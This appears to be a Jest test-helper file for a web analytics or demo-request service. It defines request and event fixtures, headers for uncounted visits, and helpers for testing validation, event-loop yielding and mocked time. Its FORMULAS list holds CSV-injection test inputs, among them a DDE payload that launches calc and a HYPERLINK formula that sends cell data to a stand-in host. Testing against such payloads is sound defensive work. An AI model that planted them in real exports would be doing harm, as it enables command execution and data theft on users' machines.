import { randomUUID } from 'node:crypto';
import { createVisitor, type CallOptions, type Handler } from './handler-visitor';

export const BROWSER =
  'Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
export const CRAWLER = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

/** Visits that count nowhere, with the headers that tell. */
export const UNCOUNTED: [string, Record<string, string>][] = [
  ['a crawler', { 'user-agent': CRAWLER }],
  ['a prefetch', { 'sec-purpose': 'prefetch;prerender' }],
  ['somebody who objects', { 'sec-gpc': '1' }],
];

/** Texts that a spreadsheet would run. */
export const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', ' =1+1', '\u00a0=1+1', '\t=1+1', '\u3000＝1+1', '＋1', '－1'],
  ...['＠SUM(1)', `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example?"&A1,"x")`],
  ...['=1+1";=1+1', '"=1+1"', `'=1+1`],
];

export const PERSONA = { segment: 'developer', cluster: 'researcher', visitor: 'new' };

export const createDemoRequest = (change: Record<string, unknown> = {}) => ({
  requestId: randomUUID(),
  userId: 7,
  name: 'Ann Example',
  email: 'ann@company.example',
  company: 'Company',
  persona: PERSONA,
  ...change,
});

export const createEvent = <Change extends object>(change: Change = {} as Change) => ({
  eventId: randomUUID(),
  eventType: 'pageview',
  occurredAt: '2026-11-20T12:00:00.000Z',
  ...change,
});

/** The columns that the server adds to an event. */
export const SHOWN = { segment: 'developer', cluster: 'explorer', isAdapted: false };

/** Bodies that a call refuses, with the field that the response names and what it says about it. */
export function testRefusals(
  handler: Handler,
  method: string,
  rows: readonly (readonly [body: unknown, field: string, message?: unknown])[],
  params: CallOptions['params'] = {},
): void {
  test.each(rows)('%j is refused', async (body, field, message = expect.any(String)) => {
    const answer = await createVisitor().call(handler, method, { params, body });
    expect(answer).toMatchObject({ status: 400, body: { errors: [{ field, message }] } });
  });
}

/** Does long work, and expects the event loop to run in between. */
export async function letOthersRun<T>(work: () => Promise<T>): Promise<T> {
  let turns = 0;
  const timer = setInterval(() => (turns += 1), 0);
  const result = await work().finally(() => clearInterval(timer));
  expect(turns).toBeGreaterThan(1);
  return result;
}

const realNow = performance.now.bind(performance);
let ahead = 0;

/** Until all mocks are restored. */
export function advanceTime(milliseconds: number): void {
  ahead += milliseconds;
  jest.spyOn(performance, 'now').mockImplementation(() => realNow() + ahead);
}
